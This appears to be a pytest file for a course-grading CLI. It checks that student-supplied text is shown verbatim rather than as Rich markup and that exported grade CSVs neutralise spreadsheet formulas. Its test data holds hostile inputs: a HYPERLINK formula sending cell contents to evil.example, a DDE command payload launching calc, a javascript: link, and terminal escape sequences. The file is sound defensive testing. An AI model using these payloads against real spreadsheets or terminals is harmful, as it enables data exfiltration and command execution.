"""Student text is text: never read as Rich markup in the terminal, never a formula in a
spreadsheet. Reasons, flag messages, student ids and exception messages come from
students (a failing assertion quotes their code, a folder name is their id)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from factory import edit, solved, write
from helpers import run_tito
from rich.console import Console

from tito.cli import main as cli
from tito.cli import student as student_cli
from tito.cli import ui
from tito.errors import TitoError
from tito.grading.report import CellResult, Flag, FlagKind, GradeReport

# Each is lost, restyled or a crash (`[/]` closes a tag that was never opened) when read as markup.
MARKUP = ["[/]", "[bold]", "[layer.weight, layer.bias]", "[link=javascript:x]click[/link]"]
# What a student's code raises in the kernel tests below: a failure message quoting markup.
RAISED = "raise ValueError('[/] expected [layer.weight, layer.bias]')\n"
SHOWN = "[/] expected [layer.weight, layer.bias]"


def recorder() -> Console:
    return Console(record=True, width=250, file=io.StringIO(), color_system="standard", highlight=False)


def rendered(renderable) -> tuple[str, Console]:
    console = recorder()
    console.print(renderable)
    return console.export_text(clear=False), console


def no_javascript_link(console: Console) -> None:
    assert "<a href" not in console.export_html(), "student text made a link"


def report_with(text: str, student: str = "ada") -> GradeReport:
    report = GradeReport(student, "03_layers")
    report.cells = [CellResult("test-linear", 0.0, 15.0, text), CellResult("test-dropout", 20.0, 20.0)]
    report.flag(FlagKind.TAMPERED, f"locked cell edited: {text}", ["test-linear"])
    return report


# -- tables and messages, rendered by rich ------------------------------------------------------
@pytest.mark.parametrize("text", MARKUP)
def test_grade_table_shows_a_reason_verbatim(text):
    shown, console = rendered(ui.grade_table(report_with(text), f"03_layers: {text}"))
    assert shown.count(text) == 2, shown  # the title and the reason
    no_javascript_link(console)


def test_grade_table_keeps_its_colours():
    _, console = rendered(ui.grade_table(report_with("[red]not red[/]"), "t"))
    html = console.export_html(inline_styles=True)
    assert "[red]not red[/]" in html
    styles = {segment.text.strip(): segment.style for segment in console.render(ui.grade_table(report_with(""), "t"))
              if segment.text.strip()}
    assert styles["❌ fail"].color.name == "red" and styles["✅ pass"].color.name == "green"
    assert styles["total"].bold


@pytest.mark.parametrize("text", MARKUP)
def test_flags_are_shown_verbatim(monkeypatch, text):
    console = recorder()
    monkeypatch.setattr(ui, "console", console)
    ui.show_flags(report_with(text))
    shown = console.export_text(clear=False)
    assert f"⚠ tampered: locked cell edited: {text}" in shown, shown
    no_javascript_link(console)


@pytest.mark.parametrize("text", MARKUP)
def test_batch_table_shows_ids_reasons_and_flags_verbatim(text):
    ungraded = GradeReport(f"b{text}", "03_layers", graded=False)
    ungraded.flag(FlagKind.UNREADABLE, f"not a notebook: {text}")
    reports = [report_with(text, student=f"a{text}"), ungraded, report_with("", student="a[b]")]
    shown, console = rendered(ui.batch_table(reports, "03_layers: 3 submission(s)"))
    assert f"a{text}" in shown and f"b{text}" in shown and "a[b]" in shown, shown
    assert f"test-linear: {text}" in shown and f"tampered: locked cell edited: {text}" in shown, shown
    assert f"(not graded) not a notebook: {text}" in shown, shown
    no_javascript_link(console)


@pytest.mark.parametrize("text", MARKUP)
def test_error_and_warning_show_their_text_verbatim(monkeypatch, text):
    console = recorder()
    monkeypatch.setattr(ui, "errors", console)
    ui.error(f"cannot read {text}", f"rename {text}")
    ui.warning(f"odd {text}")
    shown = console.export_text(clear=False)
    assert f"Error: cannot read {text}" in shown and f"What to do: rename {text}" in shown, shown
    assert f"Warning: odd {text}" in shown, shown


def test_plain_text_has_no_terminal_control_codes():
    """An escape sequence in a reason could rewrite the instructor's terminal: it is shown, not sent."""
    shown, _ = rendered(ui.grade_table(report_with("a\x1b[2Jb\x1b]8;;http://x\x07c"), "t"))
    assert "\x1b" not in shown and "a\\x1b[2Jb\\x1b]8;;http://x\\x07c" in shown, repr(shown)


@pytest.mark.parametrize("problem", [RuntimeError("[/]"), TitoError("no folder a[b] [/]", "rename [bold]it")])
def test_the_cli_handlers_show_any_message_verbatim(monkeypatch, problem):
    def explode(args):
        raise problem

    console = recorder()
    monkeypatch.setattr(ui, "errors", console)
    monkeypatch.setattr(student_cli, "cmd_system_doctor", explode)
    assert cli.main(["system", "doctor"]) == 1
    shown = console.export_text(clear=False)
    expected = "unexpected RuntimeError: [/]" if isinstance(problem, RuntimeError) else "no folder a[b] [/]"
    assert expected in shown, shown
    if isinstance(problem, TitoError):
        assert "What to do: rename [bold]it" in shown, shown


# -- a real run ------------------------------------------------------------------------------------
@pytest.mark.slow
def test_module_test_shows_a_failure_message_with_markup_verbatim(repo):
    notebook = edit(solved(repo), "linear", "params = [self.weight]\n", RAISED + "        params = [self.weight]\n")
    write(notebook, repo / "modules/03_layers/layers.ipynb")
    result = run_tito(repo, "module", "test", "03_layers")
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    assert result.returncode == 1, result.stdout + result.stderr
    table_text = " ".join(result.stdout.replace("│", " ").split())
    assert SHOWN in table_text, result.stdout


@pytest.mark.slow
def test_autograde_and_export_of_hostile_students(repo):
    """One batch: an honest student keeps 100/100 beside a folder named `a[b]` whose code fails
    with markup, and formula-like ids; the table shows them all and the CSV holds no formula."""
    run_tito(repo, "nbgrader", "generate", "03_layers", check=True)
    hostile = edit(solved(repo), "linear", "params = [self.weight]\n", RAISED + "        params = [self.weight]\n")
    students = {"honest": solved(repo), "a[b]": hostile, "=1+2": solved(repo), "@SUM(1+1)": hostile}
    for student, notebook in students.items():
        folder = repo / "nbgrader/submitted" / student / "03_layers"
        write(notebook, folder / "layers.ipynb")
        (folder / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC\n")
    result = run_tito(repo, "nbgrader", "autograde", "03_layers", "--json", str(repo / "reports.json"))
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    assert result.returncode == 0, result.stdout + result.stderr
    reports = {r["student"]: r for r in json.loads((repo / "reports.json").read_text())}
    assert reports["honest"]["score"] == 100 and reports["=1+2"]["score"] == 100
    table = [" ".join(line.replace("│", " ").split()) for line in result.stdout.splitlines()]
    for student in students:
        assert any(line.startswith(f"{student} ") for line in table), result.stdout
    assert SHOWN in " ".join(table), result.stdout

    run_tito(repo, "nbgrader", "export", "--to", str(repo / "grades.csv"), check=True)
    rows = list(csv.DictReader(io.StringIO((repo / "grades.csv").read_text(), newline="")))
    assert {row["student_id"] for row in rows} == {"honest", "a[b]", "'=1+2", "'@SUM(1+1)"}
    assert all(not cell.lstrip().startswith(tuple("=+-@")) for row in rows for cell in row.values())
    assert {row["student_id"]: float(row["score"]) for row in rows}["honest"] == 100.0


# -- CSV -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(1+1)", "\tx", "\rx", "\0x", " =1+1", "\n=1", "  @x",
                                  '=HYPERLINK("http:evil.example?"&A1,"x")', "-", "="])
def test_a_formula_is_made_text(text):
    from tito.workflows.instructor import csvsafe

    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5.0, 0.0, 7.5, 100, -3, float("inf")])
def test_numbers_stay_numbers(value):
    from tito.workflows.instructor import csvsafe

    assert csvsafe.cell(value) == value


@pytest.mark.parametrize("text", ["", "ada", "100/100", "2026-11-20 10:00:00 UTC", "tampered: a = 1", "a-b", "'x",
                                  "1e5"])
def test_ordinary_text_is_unchanged(text):
    from tito.workflows.instructor import csvsafe

    assert csvsafe.cell(text) == text


def test_none_is_an_empty_cell_and_a_row_is_made_safe():
    from tito.workflows.instructor import csvsafe

    assert csvsafe.cell(None) == ""
    assert csvsafe.row(["=x", -1.5, None, "ok"]) == ["'=x", -1.5, "", "ok"]


HOSTILE_IDS = ['=HYPERLINK("http:evil.example?"&A1,"x")', "@SUM(1+1)", "+1", "-x", "\tx", "\rx", " =x"]


def test_grades_csv_holds_no_formula(repo):
    """A gradebook made with nbgrader's API (no grading): hostile ids, names, reasons and flags."""
    from tito.course.paths import Paths
    from tito.coursedir.config import CoursePaths, load_config
    from tito.coursedir.database import opened
    from tito.fileops import atomic_write_text
    from tito.workflows.instructor import assignments as instructor

    paths = Paths(repo)
    course = CoursePaths.of(load_config(paths))
    with opened(course.db_url) as book:
        book.add_assignment("03_layers")
        book.add_notebook("layers", "03_layers")
        book.add_grade_cell("test-linear", "layers", "03_layers", max_score=15.0, cell_type="code")
        for student in ["honest", *HOSTILE_IDS]:
            book.add_student(student, first_name="=cmd|' /C calc'!A0", last_name="-2+3", email="@x")
            book.add_submission("03_layers", student)
            grade = book.find_grade("test-linear", "layers", "03_layers", student)
            grade.auto_score = 7.5
        book.db.commit()
    for student in HOSTILE_IDS:
        stored = GradeReport(student, "03_layers", graded=False, flags=[Flag(FlagKind.TAMPERED, "=1+1")])
        atomic_write_text(course.report(student, "03_layers"), json.dumps(stored.to_dict()))

    rows = list(csv.reader(io.StringIO(instructor.grades_csv(paths), newline="")))
    header, body = rows[0], rows[1:]
    assert header == instructor.CSV_COLUMNS
    assert all(not cell.lstrip().startswith(tuple("=+-@")) and cell[:1] not in ("\t", "\r")
               for row in body for cell in row), body
    by_id = {row[header.index("student_id")]: dict(zip(header, row, strict=True)) for row in body}
    assert set(by_id) == {"honest", *("'" + s for s in HOSTILE_IDS)}, sorted(by_id)
    for row in by_id.values():
        assert (float(row["raw_score"]), float(row["score"]), float(row["max_score"])) == (7.5, 7.5, 15.0)
        assert row["last_name"] == "'-2+3" and row["email"] == "'@x"
    assert by_id["'-x"]["reason"] == "'=1+1" and by_id["honest"]["reason"] == ""


def test_a_line_break_in_a_cell_never_starts_a_row():
    from tito.workflows.instructor import csvsafe

    stream = io.StringIO(newline="")
    writer = csvsafe.writer(stream)
    writer.writerow(["a\r=1+1", "b\n@x", 2.5])
    writer.writerow(["next", "", -1.0])
    assert list(csv.reader(io.StringIO(stream.getvalue(), newline=""))) == [
        ["a\r=1+1", "b\n@x", "2.5"], ["next", "", "-1.0"]]


# -- the rule, checked on tito's source --------------------------------------------------------------
def _markup_risks(tree) -> list[str]:
    """Calls that hand rich a string built at run time (an f-string, a concatenation, a
    `%` or `.format`), which rich would read as markup: tito passes plain text through
    tito.ui (say, plain, line, error...) instead."""
    import ast

    def built(node) -> bool:
        if isinstance(node, ast.JoinedStr | ast.BinOp):
            return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
            return True
        return isinstance(node, ast.IfExp) and (built(node.body) or built(node.orelse))

    risks = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        function = node.func
        on_ui = isinstance(function, ast.Attribute) and getattr(function.value, "id", "") == "ui"
        if isinstance(function, ast.Attribute) and not on_ui:
            name = function.attr  # a method of rich's Console or Table (tito.ui's own functions take plain text)
        else:
            name = getattr(function, "id", "")  # Table(...); the builtin print reads no markup
        if name in ("print", "status", "add_row", "add_column", "log", "rule", "from_markup", "Table"):
            arguments = [*node.args, *(k.value for k in node.keywords if k.arg in ("title", "caption"))]
            risks += [f"line {node.lineno}: {name}(...)" for argument in arguments if built(argument)]
    return risks


def test_tito_never_prints_text_built_at_run_time_as_markup():
    import ast
    from pathlib import Path

    import tito

    risks = {path.name: _markup_risks(ast.parse(path.read_text())) for path in Path(tito.__file__).parent.rglob("*.py")}
    assert {name: found for name, found in risks.items() if found} == {}


def test_bidirectional_overrides_and_invisible_characters_are_shown():
    from rich.console import Console

    from tito.cli import ui

    console = Console(record=True, width=200, color_system=None)
    console.print(ui.plain("notes\u202etxt.exe and\u200bzero\ufeffwidth"))
    text = console.export_text()
    assert "notes\\u202etxt.exe and\\u200bzero\\ufeffwidth" in text, text
    assert not any(char in text for char in "\u202e\u200b\ufeff")
